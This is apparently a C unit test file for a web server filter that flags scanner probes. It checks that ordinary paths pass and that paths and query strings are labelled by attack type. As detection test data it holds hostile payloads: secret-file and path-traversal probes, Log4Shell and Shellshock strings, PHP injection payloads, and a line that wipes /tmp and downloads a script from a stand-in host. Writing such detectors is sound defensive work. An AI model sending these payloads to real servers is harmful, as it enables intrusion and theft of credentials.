/*
 * Requests that only scanners make, and above all the ordinary ones that look
 * like them.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>

#include <cmocka.h>

#include "core/filter/bots_probe.h"

static int
set_up(void **state)
{
    *state = mayday_probes_new();
    return *state == NULL;
}

static int
tear_down(void **state)
{
    mayday_probes_free(*state);
    return 0;
}

static void
assert_path(void **state, const char *path, unsigned site, const char *expected)
{
    const char *reason = mayday_probe_path(*state, mayday_slice_str(path), site);

    if (reason == NULL ? expected != NULL : expected == NULL || strcmp(reason, expected) != 0) {
        fail_msg("%s: %s", path, reason == NULL ? "ordinary" : reason);
    }
}

static void
assert_text(void **state, const char *text, const char *expected)
{
    const char *reason = mayday_probe_text(*state, mayday_slice_str(text));

    if (reason == NULL ? expected != NULL : expected == NULL || strcmp(reason, expected) != 0) {
        fail_msg("%s: %s", text, reason == NULL ? "ordinary" : reason);
    }
}

/* ---- paths ---- */

static void
test_probe_path__ordinary_ones(void **state)
{
    static const char *const paths[] = {
        "",
        "/",
        "/index.html",
        "/index.php",
        "/shop/cart.php/items",
        "/api/v1/users/42",
        "/environment",
        "/.environment/x",
        "/docs/.envoy/config",
        "/env",
        "/user/repo.git/info/refs",
        "/.github/workflows",
        "/.well-known/security.txt",
        "/.well-known/acme-challenge/abc",
        "/blog/how-to-hide-.git",
        "/actuator/health",
        "/actuator/prometheus",
        "/wp-content-guide",
        "/help/phpunit",
        "/files/a..b/c",
        "/files/...",
        "/a/./b",
        "/a/b/../c",
        "/static/../static/app.js",
        "/q%2Fa",
        "/caf%C3%A9/100%25",
        "/100%",
        "/%zz/%u12",
        "/search/etc/passwords",
        "/downloads/backup.sql.html.en/x",
        "/cgi-bin/report",
        "/manager/orders",
        "/solr/products/select",
        "/console/index",
        "/debug/pprof/",
        "/login",
        "/admin/",
        "/config.json",
    };

    for (size_t i = 0; i < MAYDAY_COUNT(paths); i++) {
        assert_path(state, paths[i], 0, NULL);
    }
}

static void
test_probe_path__what_scanners_look_for(void **state)
{
    static const char *const cases[][2] = {
        {"/.env", "secret file"},
        {"/.env.production", "secret file"},
        {"/.env~", "secret file"},
        {"/api/.env.bak", "secret file"},
        {"/.git/config", "secret file"},
        {"/shop/.git/HEAD", "secret file"},
        {"/.git", "secret file"},
        {"/.aws/credentials", "secret file"},
        {"/.ssh/id_rsa", "secret file"},
        {"/.DS_Store", "secret file"},
        {"/wp-config.php.bak", "secret file"},
        {"/backup.sql", "secret file"},
        {"/WEB-INF/web.xml", "secret file"},
        {"/wp-login.php", "wordpress"},
        {"/blog/wp-login.php", "wordpress"},
        {"/wp-admin/setup-config.php", "wordpress"},
        {"//wp-includes/wlwmanifest.xml", "wordpress"},
        {"/xmlrpc.php", "wordpress"},
        {"/phpMyAdmin-4.9.7/index.php", "phpmyadmin"},
        {"/phpmyadmin/", "phpmyadmin"},
        {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "shell"},
        {"/alfa.php", "shell"},
        {"/actuator/env", "actuator"},
        {"/actuator/heapdump", "actuator"},
        {"/actuator", "actuator"},
        {"/manager/html", "java console"},
        {"/owa/auth/logon.aspx", "mail or vpn server"},
        {"/+CSCOE+/logon.html", "mail or vpn server"},
        {"/remote/fgt_lang", "mail or vpn server"},
        {"/HNAP1/", "device"},
        {"/boaform/admin/formLogin", "device"},
        {"/cgi-bin/luci/;stok=/locale", "device"},
        {"/nmaplowercheck1700000000", "scanner"},
        {"/${jndi:ldap://203.0.113.1/a}", "log4shell"},
    };

    for (size_t i = 0; i < MAYDAY_COUNT(cases); i++) {
        assert_path(state, cases[i][0], 0, cases[i][1]);
    }
}

static void
test_probe_path__traversal(void **state)
{
    assert_path(state, "/../etc/hosts", 0, "path traversal");
    assert_path(state, "/a/../../b", 0, "path traversal");
    assert_path(state, "/static/%2e%2e/x", 0, "path traversal");
    assert_path(state, "/static/.%2E/x", 0, "path traversal");
    assert_path(state, "/static/%252e%252e/x", 0, "path traversal");
    assert_path(state, "/static/..%2fx/y", 0, "path traversal");
    assert_path(state, "/static/..%5cx", 0, "path traversal");
    assert_path(state, "/static/..%255cx", 0, "path traversal");
    assert_path(state, "/static/..\\..\\..\\x", 0, "path traversal");
    assert_path(state, "/static/%c0%ae%c0%ae/x", 0, "path traversal");
    assert_path(state, "/static/..%c0%afx", 0, "path traversal");
    assert_path(state, "/static/%u002e%u002e/x", 0, "path traversal");
    assert_path(state, "/app/..;/manager/status", 0, "path traversal");
    assert_path(state, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 0, "path traversal");
    assert_path(state, "/a/b/c/../../../etc/passwd", 0, "secret file");
    assert_path(state, "/x%00.png", 0, "zero byte");
    assert_path(state, "/x%2500.png", 0, "zero byte");
}

static void
test_probe_path__encodings_hide_nothing(void **state)
{
    assert_path(state, "/%2eenv", 0, "secret file");
    assert_path(state, "/%252eenv", 0, "secret file");
    assert_path(state, "/%25252eenv", 0, "secret file");
    assert_path(state, "/.%65nv", 0, "secret file");
    assert_path(state, "/.ENV", 0, "secret file");
    assert_path(state, "/%2e%67%69%74%2fconfig", 0, "secret file");
    assert_path(state, "/.git\\config", 0, "secret file");
    assert_path(state, "///.//.git/./config", 0, "secret file");
    assert_path(state, "/WP-LOGIN.php", 0, "wordpress");
    assert_path(state, "/wp%2dlogin%2ephp", 0, "wordpress");
    assert_path(state, "/%c0%aeenv", 0, "secret file");
    assert_path(state, "/%e0%80%aeenv", 0, "secret file");
    assert_path(state, "/%f0%80%80%aeenv", 0, "secret file");
    assert_path(state, "/a/%e0%80%ae%e0%80%ae/b", 0, "path traversal");
    assert_path(state, "/%e0%a4%b9/%f0%9f%8d%8a/%e0%80", 0, NULL);
}

/* GitLab, Gitea and Nextcloud show and keep files that nobody else should have. */
static void
test_probe_path__peoples_files(void **state)
{
    assert_path(state, "/shop/web/-/blob/main/.gitignore", 0, NULL);
    assert_path(state, "/shop/web/src/branch/main/.env.example", 0, NULL);
    assert_path(state, "/shop/web/raw/main/.npmrc", 0, NULL);
    assert_path(state, "/shop/web.git/info/refs", 0, NULL);
    assert_path(state, "/api/v4/projects/7/repository/files/.gitlab-ci.yml/.env/raw", 0, NULL);
    assert_path(state, "/remote.php/dav/files/jane/web/.git/config", MAYDAY_SITE_PHP, NULL);
    assert_path(state, "/dav/.env", 0, "secret file");
    assert_path(state, "/shop/.git/config", 0, "secret file");
    assert_path(state, "/raw/../etc/passwd", 0, "secret file");
}

static void
test_probe_path__what_a_site_is(void **state)
{
    assert_path(state, "/wp-admin/admin-ajax.php", MAYDAY_SITE_PHP, NULL);
    assert_path(state, "/wp-login.php", MAYDAY_SITE_PHP, NULL);
    assert_path(state, "/phpmyadmin/", MAYDAY_SITE_PHP, NULL);
    assert_path(state, "/.env", MAYDAY_SITE_PHP, "secret file");
    assert_path(state, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", MAYDAY_SITE_PHP,
                "shell");
    assert_path(state, "/anything.php", 0, NULL);
    assert_path(state, "/anything.php", MAYDAY_SITE_NO_PHP, "php");
    assert_path(state, "/anything.php/x", MAYDAY_SITE_NO_PHP, "php");
    assert_path(state, "/anything.phpx", MAYDAY_SITE_NO_PHP, NULL);
    assert_path(state, "/actuator/env", MAYDAY_SITE_JAVA, NULL);
    assert_path(state, "/owa/", MAYDAY_SITE_EXCHANGE, NULL);
    assert_path(state, "/wp-login.php", MAYDAY_SITE_JAVA | MAYDAY_SITE_EXCHANGE, "wordpress");
}

static void
test_probe_path__longest(void **state)
{
    enum { SIZE = MAYDAY_PROBE_TEXT_MAX + 100 };
    char *path = malloc(SIZE);

    assert_non_null(path);
    memset(path, '%', SIZE);
    assert_null(mayday_probe_path(*state, mayday_slice(path, SIZE), 0));
    memset(path, '/', SIZE);
    assert_null(mayday_probe_path(*state, mayday_slice(path, SIZE), 0));
    memset(path, '.', SIZE);
    assert_null(mayday_probe_path(*state, mayday_slice(path, SIZE), 0));
    for (size_t i = 0; i + 3 <= SIZE; i += 3) {
        memcpy(path + i, "../", 3);
    }
    assert_string_equal(mayday_probe_path(*state, mayday_slice(path, SIZE), 0), "path traversal");
    memset(path, '\xc0', SIZE);
    (void) mayday_probe_path(*state, mayday_slice(path, SIZE), 0);
    free(path);
}

/* Whatever the bytes are, they stay within their bounds. */
static void
test_probe_path__every_byte(void **state)
{
    static const char signs[] = "%/\\.;2e5cCu0";
    char path[256];
    unsigned seed = 3;

    for (int round = 0; round < 5000; round++) {
        size_t len = (size_t) rand_r(&seed) % sizeof(path);

        for (size_t i = 0; i < len; i++) {
            path[i] = rand_r(&seed) % 4 == 0 ? (char) rand_r(&seed)
                                             : signs[(size_t) rand_r(&seed) % (sizeof(signs) - 1)];
        }
        (void) mayday_probe_path(*state, mayday_slice(path, len), 0);
        (void) mayday_probe_text(*state, mayday_slice(path, len));
    }
}

/* ---- texts ---- */

static void
test_probe_text__ordinary_ones(void **state)
{
    static const char *const texts[] = {
        "",
        "q=how+to+read+/etc/passwd+in+c",
        "q=union+select",
        "page=2&sort=-price",
        "redirect=../../cart",
        "price=${price}",
        "template={{name}}",
        "text/html,application/xhtml+xml",
        "Mozilla/5.0 (X11; Linux x86_64)",
        "q=wget http://example.com",
        "q=call_user_func_array",
    };

    for (size_t i = 0; i < MAYDAY_COUNT(texts); i++) {
        assert_text(state, texts[i], NULL);
    }
}

static void
test_probe_text__what_scanners_send(void **state)
{
    static const char *const cases[][2] = {
        {"${jndi:ldap://203.0.113.1:1389/Exploit}", "log4shell"},
        {"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "log4shell"},
        {"${${lower:j}ndi:ldap://x/a}", "log4shell"},
        {"x=%24%7Bjndi%3Adns%3A%2F%2Fx%2Fa%7D", "log4shell"},
        {"x=%2524%257Bjndi%253Aldap", "log4shell"},
        {"() { :;}; /bin/bash -c 'id'", "shellshock"},
        {"file=../../../../../../etc/passwd", "secret file"},
        {"file=..%2f..%2f..%2fetc%2fpasswd", "secret file"},
        {"page=/etc/passwd", "secret file"},
        {"url=file:///etc/hosts", "secret file"},
        {"page=php://filter/convert.base64-encode/resource=index", "shell"},
        {"-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "shell"},
        {"s=index/think/app/invokefunction&function=call_user_func_array&vars[0]=md5", "shell"},
        {"cd+/tmp;rm+-rf+*;wget+http://203.0.113.5/a.sh", "shell"},
        {"class.module.classLoader.resources=x", "shell"},
    };

    for (size_t i = 0; i < MAYDAY_COUNT(cases); i++) {
        assert_text(state, cases[i][0], cases[i][1]);
    }
}

/* ---- methods ---- */

static void
test_probe_method__known_and_not(void **state)
{
    static const char *const known[] = {"",    "GET",      "HEAD",     "POST",    "DELETE",
                                        "PUT", "PROPFIND", "M-SEARCH", "OPTIONS", "SOURCE"};
    static const char *const unknown[] = {"G",
                                          "GE",
                                          "GETX",
                                          "get",
                                          "TRACE",
                                          "TRACK",
                                          "CONNECT",
                                          "DEBUG",
                                          "QQQ",
                                          "GET POST",
                                          "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"};

    (void) state;
    for (size_t i = 0; i < MAYDAY_COUNT(known); i++) {
        assert_null(mayday_probe_method(mayday_slice_str(known[i])));
    }
    for (size_t i = 0; i < MAYDAY_COUNT(unknown); i++) {
        assert_string_equal(mayday_probe_method(mayday_slice_str(unknown[i])), "method");
    }
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)

int
main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(test_probe_path__ordinary_ones),      TEST(test_probe_path__what_scanners_look_for),
        TEST(test_probe_path__traversal),          TEST(test_probe_path__encodings_hide_nothing),
        TEST(test_probe_path__what_a_site_is),     TEST(test_probe_path__longest),
        TEST(test_probe_path__peoples_files),      TEST(test_probe_path__longest),
        TEST(test_probe_path__every_byte),         TEST(test_probe_text__ordinary_ones),
        TEST(test_probe_text__what_scanners_send), TEST(test_probe_method__known_and_not),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
